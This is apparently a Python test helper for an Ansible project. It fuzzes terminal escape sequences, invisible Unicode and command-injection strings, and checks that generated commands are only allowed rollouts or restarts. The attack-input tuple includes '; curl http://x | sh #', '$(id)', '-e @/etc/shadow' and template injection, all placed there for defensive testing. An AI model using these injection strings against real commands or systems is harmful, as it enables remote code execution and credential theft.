"""Text that an attacker chooses, and how a test sees what it does to a terminal or a command. Asks nothing of ours."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Sequence
from pathlib import Path

from ansible.parsing.splitter import parse_kv
from hypothesis import strategies as st

PROJECT = Path(__file__).resolve().parents[2]
ROLES = {path.name for path in (PROJECT / "roles").iterdir()}

DRIVES = (
    *("\x1b[2J\x1b[1;1H", "\x1b]0;title\x07", "\x9b31m", "\x9d0;x\x9c", "\b\b\b", "\x7f", "\r", "\n", "\t", "\x0b"),
    *("\x85", "\u2028", "\u2029", "\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u061c", "\u2800"),
    *("\ud800", "\udcff", "\U000e0041", "\U000e0101", "\ufe0f", "\u3164", "\u115f", "\u034f", "\u180e", "\ue000"),
)
COMMANDS = (
    *("; curl http://x | sh #", "$(id)", "`id`", "' || id '", '"', "\\", "\\x1b", "--tags all", "-e @/etc/shadow"),
    *("ansible-playbook -i http://x x.yml", "ansible -m shell -a id all", "&& id", "{{ 7 * 7 }}", "repair:"),
    *("\n  repair:\n    ansible-playbook -i x x.yml", "       repair   ansible-playbook -i x x.yml", "hal02: done"),
)
PIECES = st.sampled_from([*DRIVES, *COMMANDS, *("a", " ", "größe", "日本", "日" * 50, "x" * 90, "y " * 60)])
TEXT = st.one_of(st.lists(PIECES, max_size=7).map("".join), st.text(max_size=12), st.just("z" * 3000))
WORD = TEXT.filter(bool)

_UNSEEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
_BLANK = {0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x2800, 0x3164, 0xFFA0}
_BLANK |= {*range(0x180B, 0x1810), *range(0xFE00, 0xFE10)}
_COLOUR = re.compile(r"\x1b\[(?:0|1|2|31|32|33|36)m")


def unseen(text: str, *, colour: bool = False) -> list[str]:
    """Return the characters of a text that are not seen, or drive a terminal; an end of a line is none of them."""
    rest = _COLOUR.sub("", text) if colour else text
    return sorted({ascii(mark) for mark in rest if mark != "\n" and _is_unseen(mark)})


def _is_unseen(mark: str) -> bool:
    return unicodedata.category(mark) in _UNSEEN or ord(mark) in _BLANK or 0xE0100 <= ord(mark) <= 0xE01EF


def check_command(words: Sequence[str], options: Sequence[str], nodes: Sequence[str]) -> None:
    """Fail unless these are the words of a rollout, or of a restart, and nothing else: on these nodes, of our roles."""
    begins = ["ansible-playbook", *options, "playbooks/site.yml"]
    if list(words[: len(begins)]) == begins:
        rest = list(words[len(begins) :])
        if rest[:1] == ["--limit"]:
            assert set(rest[1].split(",")) <= set(nodes), words
            rest = rest[2:]
        assert rest == [] or (rest[0] == "--tags" and rest[1] in ROLES and len(rest) == 2), words
        return
    restart = ["ansible", *options, "--become", "-m", "ansible.builtin.systemd_service", "-a"]
    assert list(words[: len(restart)]) == restart, words
    arguments, where = words[len(restart) :]
    asked = parse_kv(arguments)
    assert set(asked) == {"name", "state"}, words
    assert asked["state"] == "restarted", words
    assert re.fullmatch(r"[A-Za-z0-9:_.\\@-]+\.[a-z]+", str(asked["name"])), words
    assert set(where.split(",")) <= {*nodes, "all"}, words
